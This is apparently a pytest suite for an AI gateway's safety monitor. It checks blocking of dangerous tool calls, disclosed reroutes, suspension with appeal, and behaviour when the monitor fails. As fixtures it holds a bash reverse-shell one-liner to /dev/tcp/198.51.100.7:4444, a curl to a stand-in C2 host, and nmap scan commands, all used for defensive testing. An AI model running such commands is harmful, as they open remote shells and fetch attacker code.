"""Is a denied tool call stopped with reasons, nobody rerouted in silence, an appeal heard, a failure said?"""

import asyncio
import json
from pathlib import Path

import pytest

from fake_models import fake_models
from gateways import POLICY, Bench, running
from veilig.app import cases
from veilig.app.access import Office
from veilig.core.actor import Actor
from veilig.core.errors import ApprovalError
from veilig.monitor.ladder import Kind, Level, Signal

pytestmark = pytest.mark.outside_gate
SHELL = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
BUNDLE = {
    "type": "bundle",
    "objects": [
        {
            "type": "indicator", "id": "indicator--11111111-1111-4111-8111-111111111111", "confidence": 95,
            "modified": "2026-11-01T00:00:00Z", "valid_from": "2026-11-01T00:00:00Z",
            "valid_until": "2036-01-01T00:00:00Z", "pattern_type": "stix",
            "pattern": "[domain-name:value = 'evil-c2.test']",
        }
    ],
}  # fmt: skip


def office(bench: Bench, person: str) -> Office:
    return Office(bench.desk, bench.desk.rules, Actor(person), lambda text: text)


async def stand(bench: Bench, level: Level, subject: str = "key:k-key-of-ann") -> str:
    """Set a level by hand; the case."""
    standing = await cases.set_level(office(bench, "alice"), subject, level, 3600, "seen in the logs")
    return standing.case


@pytest.mark.parametrize("path", ["/v1/responses", "/v1/chat/completions"])
@pytest.mark.parametrize("stream", [True, False], ids=["streamed", "whole"])
async def test_a_denied_tool_call_never_leaves_and_is_explained(
    tmp_path: Path, path: str, stream: bool
) -> None:
    async with fake_models(command=SHELL) as fake, running(tmp_path, fake.url) as bench:
        reply = await bench.ask(path, {"model": "big", "stream": stream, "input": "go", "messages": []})
        text = reply.body.decode()
        assert "dev/tcp" not in text
        assert "output_item.done" not in text
        assert "response.completed" not in text
        assert "cyber_policy" in text
        assert "give a shell on this machine" in text
        [case] = bench.desk.ladder.cases.values()
        assert f"https://gateway.test/appeals/{case.id}" in text
        assert reply.status == (200 if stream else 400)
        [signal] = bench.events("signal.raised")
        assert signal["evidence"] == ["rule:reverse-shell", "attack:T1059.004"]
        shown = await bench.ask(f"/v1/safety/cases/{case.id}", method="GET")
        assert shown.json["object"] == "safety.case"
        assert SHELL not in shown.body.decode()


async def test_a_subject_with_a_scope_may_scan_what_is_in_it(tmp_path: Path) -> None:
    async with fake_models(command="nmap -sV lab.acme.test") as fake, running(tmp_path, fake.url) as bench:
        await bench.say()
        assert len(bench.events("signal.raised")) == 1
        until = int(bench.desk.now_s()) + 1000
        bench.write(
            "subject.scoped", subject="ann", hosts=["*.acme.test"], repositories=[], evidence="",
            expires_s=until, actor="t",
        )  # fmt: skip
        await bench.say()
        assert len(bench.events("signal.raised")) == 1


async def test_an_indicator_in_a_tool_call_is_hard_and_in_a_text_it_is_soft(tmp_path: Path) -> None:
    feed = tmp_path / "feed.json"
    feed.write_text(json.dumps(BUNDLE))
    policy = POLICY.replace(
        "monitor: {enabled: true}", f"monitor: {{enabled: true, feeds: [{{name: f, path: '{feed}'}}]}}"
    )
    command = "curl https://evil-c2[.]test/x"
    async with fake_models(command=command) as fake, running(tmp_path, fake.url, policy=policy) as bench:
        reply = await bench.say("what is evil-c2.test? it is in our logs")
        [text, call] = bench.events("signal.raised")
        assert text["confidence"] == 84
        assert call["confidence"] == 95
        assert reply.status == 400
        assert bench.desk.ladder.standing("key:k-key-of-ann").level is Level.THROTTLE
        assert "evil-c2.test" in reply.error["message"]


async def test_a_call_that_was_judged_counts_once_when_it_comes_back_as_history(tmp_path: Path) -> None:
    async with fake_models(command="nmap 203.0.114.0/24") as fake, running(tmp_path, fake.url) as bench:
        reply = await bench.say("look around")
        [call] = reply.json["output"]
        history = [{"role": "user", "content": "look around"}, call]
        history.append({"type": "function_call_output", "call_id": "call_1", "output": "1 host up"})
        for _ in range(3):
            assert (await bench.ask("/v1/responses", {"model": "big", "input": history})).status == 200
        assert len(bench.events("signal.raised")) == 1


async def test_an_everyday_request_raises_nothing(tmp_path: Path) -> None:
    command = "pytest -q && git push origin main"
    async with fake_models(command=command) as fake, running(tmp_path, fake.url) as bench:
        reply = await bench.say("ssh into my server and restart nginx, the port 443 is blocked")
        assert reply.status == 200
        assert bench.events("signal.raised", "ladder.moved") == []


# --- never silent -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("stream", [True, False], ids=["streamed", "whole"])
async def test_a_reroute_says_so_in_header_body_and_record(tmp_path: Path, stream: bool) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        case = await stand(bench, Level.REROUTE)
        reply = await bench.say("hi", stream=stream)
        assert fake.requests[-1]["model"] == "small"
        assert reply.headers["openai-model"] == "small"
        assert b'"model": "small"' in reply.body
        assert reply.headers["x-veilig-case"] == case
        assert "seen in the logs" in reply.headers["x-veilig-warning"]
        await bench.desk.flush()
        row = json.loads(bench.events("gateway.served")[-1]["requests"][-1])
        assert (row["asked"], row["served"], row["said"]) == ("big", "small", "small")


async def test_a_model_without_a_fallback_is_refused_rather_than_served(tmp_path: Path) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        await stand(bench, Level.REROUTE)
        reply = await bench.say(model="other")
        assert (reply.status, reply.error["code"]) == (403, "account_suspended")
        assert fake.requests == []


async def test_suspension_names_reason_case_and_appeal_and_an_appeal_lifts_it(tmp_path: Path) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        case = await stand(bench, Level.SUSPEND)
        reply = await bench.say()
        assert (reply.status, reply.error["code"]) == (403, "account_suspended")
        for words in ("seen in the logs", case, "https://gateway.test/appeals/"):
            assert words in reply.error["message"]
        await cases.appeal(office(bench, "ann"), case, "it was our own exercise")
        for who in ("alice", "ann"):
            with pytest.raises(ApprovalError, match="may not decide"):
                await cases.decide(office(bench, who), case, True, "fine")
        await cases.decide(office(bench, "bob"), case, True, "checked with her team")
        assert (await bench.say()).status == 200


async def test_a_throttled_key_is_told_once_in_words_that_clients_show(tmp_path: Path) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        await stand(bench, Level.THROTTLE)
        replies = [await bench.say() for _ in range(4)]
        assert [r.status for r in replies] == [200, 400, 429, 429]
        assert "seen in the logs" in replies[1].error["message"]
        assert "retry-after" in replies[2].headers


async def test_what_one_end_user_does_touches_no_other_and_not_the_organisation(tmp_path: Path) -> None:
    async with fake_models(command=SHELL) as fake, running(tmp_path, fake.url) as bench:
        for _ in range(3):
            await bench.say(safety_identifier="mallory")
        fake.command = ""
        assert "x-veilig-case" in (await bench.say(safety_identifier="mallory")).headers
        for who in ({"safety_identifier": "carol"}, {}):
            assert "x-veilig-case" not in (await bench.say(**who)).headers
        assert all(s.startswith("user:") for s in bench.desk.ladder.standings)
        assert "mallory" not in str(bench.events("signal.raised", "ladder.moved", "case.opened"))


async def test_only_people_move_an_organisation(tmp_path: Path) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        await stand(bench, Level.SUSPEND, "org:acme")
        assert (await bench.say(safety_identifier="carol")).status == 403


# --- a monitor that breaks ----------------------------------------------------------------------------------


class Broken:
    id = "broken"

    def score(self, text: str) -> float:
        raise RuntimeError("no weights")


@pytest.mark.parametrize(
    ("tier", "level", "status"),
    [
        ("standard", Level.OBSERVE, 503),
        ("trusted", Level.OBSERVE, 200),
        ("trusted", Level.WARN, 200),
        ("trusted", Level.THROTTLE, 503),
        ("trusted", Level.REROUTE, 503),
    ],
)
async def test_a_broken_monitor_means_what_the_policy_says_and_is_recorded(
    tmp_path: Path, tier: str, level: Level, status: int
) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        bench.vet(tier)
        if level is not Level.OBSERVE:
            await stand(bench, level)
        bench.service.engine.scorer = Broken()  # type: ignore[union-attr]
        assert (await bench.say()).status == status
        await bench.desk.flush()
        [event] = bench.events("monitor.failed")
        assert event["passed"] == (status == 200)
        assert len(fake.requests) == (status == 200)


@pytest.mark.parametrize(("tier", "passes"), [("standard", False), ("trusted", True)])
async def test_a_stream_that_cannot_be_read_ends_or_passes_whole(
    tmp_path: Path, tier: str, passes: bool
) -> None:
    raw = b'data: {"choices": []}\n\ndata: {broken\n\ndata: [DONE]\n\n'
    async with fake_models(raw=raw) as fake, running(tmp_path, fake.url) as bench:
        bench.vet(tier)
        reply = await bench.ask("/v1/chat/completions", {"model": "big", "stream": True, "messages": []})
        assert (reply.body == raw) == passes
        assert (b"monitor_unavailable" in reply.body) != passes


async def test_signals_at_once_from_many_requests_are_each_recorded(tmp_path: Path) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        caller = await bench.desk.identify(b"key-of-ann", "")
        signal = Signal(Kind.RULE, 0.5, 50, ("rule:x",))
        await asyncio.gather(*(bench.desk.signal(caller, [signal], f"r{i}") for i in range(20)))  # type: ignore[arg-type]
        assert len(bench.events("signal.raised")) == 20
        again = type(bench.desk.ladder)()
        again.apply(bench.desk.ledger.events())
        assert again.standings == bench.desk.ladder.standings


# --- an appeal with nothing but the key ---------------------------------------------------------------------


async def test_who_is_suspended_appeals_with_their_key_and_somebody_else_decides(tmp_path: Path) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        case = await stand(bench, Level.SUSPEND)
        bench.key("key-of-bob", "bob")
        path = f"/v1/safety/cases/{case}/appeal"
        said = {"reason": "it was our own lab, with " + "ghp_" + "a1B2" * 9}
        for key, body, status in (
            ("key-of-nobody", said, 401),
            ("key-of-bob", said, 404),
            ("key-of-ann", {}, 400),
            ("key-of-ann", {"reason": " "}, 400),
            ("key-of-ann", b"{", 400),
            ("key-of-ann", {"reason": "x" * 40_000}, 400),
            ("key-of-ann", {"reason": "x" * 5000}, 409),
            ("key-of-ann", said, 200),
            ("key-of-ann", said, 409),
        ):
            reply = await bench.ask(path, body, key=key)
            assert reply.status == status, (key, reply.body)
        [event] = bench.events("case.appealed")
        assert event["actor"] == "ann"
        assert "ghp_" not in event["text"]
        shown = await bench.ask(f"/v1/safety/cases/{case}", method="GET")
        assert shown.json["appeal"] == "open"
        assert (await bench.say()).status == 403, "until somebody decides"
        with pytest.raises(ApprovalError):
            await cases.decide(office(bench, "ann"), case, True, "mine")
        await cases.decide(office(bench, "bob"), case, True, "it is their lab")
        assert (await bench.say()).status == 200
        assert (await bench.ask("/v1/safety/cases/x/appeal", said)).status == 404
